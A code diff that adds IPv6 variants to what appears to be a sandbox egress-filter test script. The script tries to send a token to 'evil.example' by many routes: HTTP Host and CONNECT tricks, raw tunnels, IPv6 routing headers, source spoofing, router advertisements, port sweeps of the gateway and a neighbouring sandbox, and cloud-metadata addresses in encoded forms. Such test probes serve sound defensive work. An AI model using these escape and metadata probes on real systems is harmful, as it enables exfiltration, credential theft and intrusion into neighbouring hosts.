@@ -7,10 +7,31 @@ exception or a false result.
 """
 import os, random, select, signal, socket, ssl, struct, sys, threading, time
 
+# FAMILY=6 tries the same over IPv6.
+SIX = os.environ.get("FAMILY") == "6"
+FAMILY = socket.AF_INET6 if SIX else socket.AF_INET
+
+
+def place(four, six): return six if SIX else four
+def family(host): return socket.AF_INET6 if ":" in host else socket.AF_INET
+
+
+def gateway():
+    if SIX:
+        routes = (l.split() for l in open("/proc/net/ipv6_route"))
+        return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(next(
+            f[4] for f in routes if f[1] == "00" and f[9] == "eth0")))
+    routes = (l.split() for l in open("/proc/net/route").read().splitlines()[1:])
+    return socket.inet_ntoa(struct.pack("<L", int(next(f[2] for f in routes if f[1] == "00000000"), 16)))
+
+
 ALLOWED, EVIL = "allowed.example", "evil.example"
-EVIL_IP, ALLOWED_IP = "203.0.113.66", "203.0.113.10"
-GATEWAY = socket.inet_ntoa(struct.pack("<L", int(next(
-    l.split()[2] for l in open("/proc/net/route").read().splitlines()[1:] if l.split()[1] == "00000000"), 16)))
+EVIL_IP, ALLOWED_IP = place("203.0.113.66", "2001:db8:113::66"), place("203.0.113.10", "2001:db8:113::10")
+UNASKED, NEIGHBOUR = place("203.0.113.11", "2001:db8:113::11"), place("203.0.113.12", "2001:db8:113::12")
+HOST_IP = place("203.0.113.1", "2001:db8:1::1")
+PRIVATE, METADATA = place("10.99.0.1", "fd99::1"), place("169.254.169.254", "fd00:ec2::254")
+OTHER = os.environ.get("OTHER" + place("", "6"), "10.213.0.77")
+GATEWAY = gateway()
 RESOLVER = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
 TOKEN = sys.argv[2] if len(sys.argv) > 2 else "token"
 T = 1.5
@@ -23,8 +44,8 @@ def tcp(host, port, data, read=True):
         return s.recv(65536) if read else b""
 
 
-def udp(host, port, data, family=socket.AF_INET, read=True):
-    with socket.socket(family, socket.SOCK_DGRAM) as s:
+def udp(host, port, data, read=True):
+    with socket.socket(family(host), socket.SOCK_DGRAM) as s:
         s.settimeout(T)
         s.connect((host, port))
         s.send(data)
@@ -32,7 +53,7 @@ def udp(host, port, data, family=socket.AF_INET, read=True):
 
 
 def lookup(name):
-    return socket.gethostbyname(name)
+    return socket.getaddrinfo(name, None, FAMILY)[0][4][0]
 
 
 def http(host, path=None, method="GET", extra="", version="HTTP/1.1"):
@@ -103,10 +124,10 @@ def ip_mapped():
         return ok(s.recv(4096))
 def ip_of_allowed_unasked():
     """The allowed server's address, before its name was looked up."""
-    return ok(tcp("203.0.113.11", 80, http(ALLOWED)))
+    return ok(tcp(UNASKED, 80, http(ALLOWED)))
 def ip_neighbour_of_allowed():
     lookup(ALLOWED)
-    return ok(tcp("203.0.113.12", 80, http(ALLOWED)))
+    return ok(tcp(NEIGHBOUR, 80, http(ALLOWED)))
 
 # resolvers and names
 
@@ -198,7 +219,7 @@ def host_leading_space(): return at_allowed(b" " + http(EVIL))
 def host_odd_method(): return at_allowed(http(EVIL, method="BREW"))
 def host_lower_version(): return at_allowed(http(EVIL, version="http/1.1"), 8080)
 def host_other_port(): return at_allowed(http(ALLOWED + ":22"))
-def host_ip(): return at_allowed(http(EVIL_IP))
+def host_ip(): return at_allowed(http(place(EVIL_IP, f"[{EVIL_IP}]")))
 def connect_relay(): return at_allowed(http(EVIL + ":443", f"{EVIL}:443", "CONNECT"))
 def connect_relay_allowed_host(): return at_allowed(http(ALLOWED, f"{EVIL}:443", "CONNECT"))
 
@@ -256,18 +277,18 @@ def ip_in_ip(): return raw(4, b"\x45" + b"\0" * 19 + TOKEN.encode())
 def gre(): return raw(47, b"\0" * 4 + TOKEN.encode())
 def esp(): return raw(50, TOKEN.encode())
 def sctp():
-    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as s:
+    with socket.socket(FAMILY, socket.SOCK_STREAM, 132) as s:
         s.settimeout(T)
         s.connect((EVIL_IP, 7000))
         return True
 def udplite():
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
+    with socket.socket(FAMILY, socket.SOCK_DGRAM, 136) as s:
         s.sendto(TOKEN.encode(), (EVIL_IP, 7001))
     return False
 def fragments(): return TOKEN.encode() in udp(EVIL_IP, 7001, TOKEN.encode() + b"x" * 5000)
 def fragments_allowed_443(): return TOKEN.encode() in udp(lookup(ALLOWED), 443, TOKEN.encode() + b"x" * 5000)
 def tcp_fast_open():
-    with socket.socket() as s:
+    with socket.socket(FAMILY) as s:
         s.settimeout(T)
         s.sendto(http(EVIL), 0x20000000, (EVIL_IP, 80))
         return ok(s.recv(4096))
@@ -275,9 +296,9 @@ def tcp_fast_open():
 # the link
 
 def spoof_source():
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-        s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
-        s.bind((os.environ.get("OTHER", "10.213.0.77"), 4444))
+    with socket.socket(FAMILY, socket.SOCK_DGRAM) as s:
+        s.setsockopt(*place((socket.SOL_IP, 15), (socket.IPPROTO_IPV6, 78)), 1)  # IP_FREEBIND, IPV6_FREEBIND
+        s.bind((OTHER, 4444))
         s.sendto(TOKEN.encode(), (EVIL_IP, 7001))
     return False
 def spoof_transparent():
@@ -346,18 +367,59 @@ def kill_everything():
 
 # IPv6
 
-def v6(host, kind=socket.SOCK_DGRAM, port=7001, scope=0):
+def v6(host, kind=socket.SOCK_DGRAM, port=7001, scope=0, option=None):
     with socket.socket(socket.AF_INET6, kind) as s:
         s.settimeout(T)
+        if option:
+            s.setsockopt(socket.IPPROTO_IPV6, *option)
         s.connect((host, port, 0, scope))
         s.send(TOKEN.encode())
         return TOKEN.encode() in s.recv(4096)
-def ipv6_udp(): return v6("2001:db8::66")
-def ipv6_tcp(): return v6("2001:db8::66", socket.SOCK_STREAM, 7000)
 def ipv6_link_local(): return v6("fe80::1", scope=2)
 def ipv6_multicast(): return v6("ff02::1", scope=2)
+def ipv6_all_routers(): return v6("ff02::2", scope=2)
 def ipv6_nat64(): return v6("64:ff9b::cb00:7142")
 def ipv6_6to4(): return v6("2002:cb00:7142::1")
+def ipv6_teredo(): return v6("2001:0:cb00:7142::1")
+def ipv6_compatible(): return v6("::203.0.113.66")
+def ipv6_site_local(): return v6("fec0::1")
+def ipv6_on_link(): return v6("2001:db8:1::2")
+def ipv6_hop_options(): return v6(EVIL_IP, option=(socket.IPV6_HOPOPTS, b"\0\0\1\4\0\0\0\0"))
+def ipv6_destination_options(): return v6(EVIL_IP, option=(socket.IPV6_DSTOPTS, b"\0\0\1\4\0\0\0\0"))
+def ipv6_routing_header():
+    """By way of the allowed server to the evil one (RFC 6275, type 2)."""
+    lookup(ALLOWED)
+    return v6(ALLOWED_IP, option=(socket.IPV6_RTHDR, struct.pack("BBBB4x", 0, 2, 2, 1) + socket.inet_pton(socket.AF_INET6, EVIL_IP)))
+def ipv6_segment_routing():
+    lookup(ALLOWED)
+    segments = b"".join(socket.inet_pton(socket.AF_INET6, a) for a in (EVIL_IP, ALLOWED_IP))
+    return v6(ALLOWED_IP, option=(socket.IPV6_RTHDR, struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments))
+def ipv6_flow_label():
+    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
+        s.settimeout(T)
+        s.sendto(TOKEN.encode(), (EVIL_IP, 7001, 0x12345, 0))
+        return TOKEN.encode() in s.recv(4096)
+def ipv6_advertisement():
+    """A router advertisement to the host."""
+    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
+        s.sendto(struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + TOKEN.encode(), ("ff02::1", 0, 0, 2))
+        return True
+def ipv6_ping():
+    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as s:
+        s.settimeout(T)
+        s.sendto(struct.pack(">BBHHH", 128, 0, 0, 0, 1) + TOKEN.encode(), (EVIL_IP, 0))
+        return TOKEN.encode() in s.recv(4096)
+def ipv6_tunnels():
+    for protocol in (4, 41, 47, 50, 51, 132):
+        try:
+            with socket.socket(socket.AF_INET6, socket.SOCK_RAW, protocol) as s:
+                s.sendto(TOKEN.encode(), (EVIL_IP, 0))
+                return True
+        except OSError:
+            pass
+    return False
+def ipv6_add_address(): return netlink(20, struct.pack("=BBBBI", 10, 128, 2, 0, 2) + attr(2, socket.inet_pton(socket.AF_INET6, "2001:db8:113::99")))
+def ipv6_add_route(): return netlink(24, struct.pack("=BBBBBBBBI", 10, 64, 0, 0, 254, 4, 0, 1, 0) + attr(1, socket.inet_pton(socket.AF_INET6, "2001:db8:113::")) + attr(4, struct.pack("=I", 2)))
 
 # the neighbourhood
 
@@ -382,18 +444,18 @@ def sweep(host, ports):
     [t.start() for t in threads]
     [t.join() for t in threads]
     return found
-def other_sandbox(): return bool(sweep(os.environ["OTHER"], [22, 53, 80, 443, 8080, 18080, 44772]))
+def other_sandbox(): return bool(sweep(OTHER, [22, 53, 80, 443, 8080, 18080, 44772]))
 def host_gateway(): return bool(sweep(GATEWAY, [22, 80, 443, int(os.environ["API"]), 8080, 18080, 28888, 44772, int(os.environ["PROXY"])]))
-def host_outside_address(): return bool(sweep("203.0.113.1", [22, 53, 80, 443, int(os.environ["API"]), int(os.environ["PROXY"])]))
+def host_outside_address(): return bool(sweep(HOST_IP, [22, 53, 80, 443, int(os.environ["API"]), int(os.environ["PROXY"])]))
 def host_loopback(): return bool(sweep("127.0.0.1", [int(os.environ["API"])]))
-def metadata(): return ok(tcp("169.254.169.254", 80, http("169.254.169.254")))
+def metadata(): return ok(tcp(METADATA, 80, http("169.254.169.254")))
 def metadata_decimal(): return ok(tcp("2852039166", 80, http("169.254.169.254")))
 def metadata_hex(): return ok(tcp("0xA9FEA9FE", 80, http("169.254.169.254")))
 def metadata_octal(): return ok(tcp("0251.0376.0251.0376", 80, http("169.254.169.254")))
 def metadata_short(): return ok(tcp("169.254.43518", 80, http("169.254.169.254")))
 def metadata_alibaba(): return ok(tcp("100.100.100.200", 80, http("100.100.100.200")))
 def metadata_host_header(): return at_allowed(http("169.254.169.254"))
-def private_range(): return ok(tcp("10.99.0.1", 80, http("10.99.0.1")))
+def private_range(): return ok(tcp(PRIVATE, 80, http("inner.example")))
 
 # what must go on, and what must end
 
@@ -401,7 +463,7 @@ def exhaust_tracking():
     """Makes as many tracked connections as it can."""
     ip = lookup(ALLOWED)
     for i in range(6000):
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        with socket.socket(FAMILY, socket.SOCK_DGRAM) as s:
             try:
                 s.sendto(b"x", (ip, 10000 + i % 20000))
             except OSError:
@@ -419,7 +481,7 @@ def good_keepalive(): return second(http(ALLOWED, "/first"), http(ALLOWED, "/sec
 def good_tls():
     c = ssl.create_default_context()
     c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
-    with socket.create_connection((ALLOWED, 443), 10) as raw, c.wrap_socket(raw, server_hostname=ALLOWED) as s:
+    with socket.create_connection((lookup(ALLOWED), 443), 10) as raw, c.wrap_socket(raw, server_hostname=ALLOWED) as s:
         s.sendall(http(ALLOWED))
         return ok(s.recv(4096))
 def good_opaque(): return TOKEN.encode() in tcp(lookup(ALLOWED), 7000, b"\0" + TOKEN.encode())
@@ -455,7 +517,7 @@ def hold(port=7000):
         print("OPEN still receives")
         return
     s.close()
-    with socket.socket() as again:
+    with socket.socket(FAMILY) as again:
         again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         again.bind(own)
         again.settimeout(T)
